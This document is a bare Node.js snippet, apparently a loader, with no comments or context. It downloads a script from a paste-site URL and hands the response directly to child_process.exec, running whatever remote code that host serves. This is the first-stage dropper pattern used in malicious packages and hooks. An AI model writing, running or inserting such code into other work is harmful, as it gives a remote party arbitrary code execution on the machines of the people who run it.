const { exec } = require('child_process');
const https = require('https');
https.get('https://paste.example.org/raw/k2', res => {
  let script = '';
  res.on('data', c => (script += c));
  res.on('end', () => exec(script));
});
